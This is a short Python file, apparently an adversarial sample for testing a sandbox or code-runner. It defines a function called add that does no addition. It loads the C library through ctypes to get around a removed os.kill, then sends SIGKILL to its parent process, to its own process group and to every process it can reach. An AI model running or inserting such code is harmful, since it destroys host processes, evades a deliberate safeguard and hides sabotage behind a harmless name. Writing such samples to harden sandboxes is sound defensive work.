"""Kills its parent, its group and everyone by the C library, where os.kill has been taken away."""

KIND = "call"
import ctypes
import os

libc = ctypes.CDLL(None)


def add(a, b):
    for who in (os.getppid(), -1, 0):
        if who != 1:
            libc.kill(who, 9)
